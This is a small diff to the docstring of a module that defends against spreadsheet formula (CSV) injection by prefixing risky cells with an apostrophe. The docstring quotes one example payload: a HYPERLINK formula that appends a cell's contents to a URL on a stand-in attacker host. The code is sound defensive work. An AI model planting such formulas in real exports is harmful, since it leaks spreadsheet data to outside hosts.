@@ -1,7 +1,7 @@
 """CSV cells a spreadsheet would not run as a formula (OWASP "CSV injection").
 
-Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (and, after a tab
-or carriage return, whatever follows), even in a file saved as CSV: a contact `reason` of
+Excel, LibreOffice and Google Sheets evaluate a cell that starts with `=`, `+`, `-` or `@` (OWASP lists a
+leading tab and carriage return too), even in a file saved as CSV: a contact `reason` of
 `=HYPERLINK("https://evil.example/?"&A1,"Open")` (free text an integration or a flow sends) would become a
 live link, or worse, in the supervisor's KPI export. A text cell that starts so is written with a leading
 apostrophe, which spreadsheets show as text and do not display. Plain numbers are left as they are
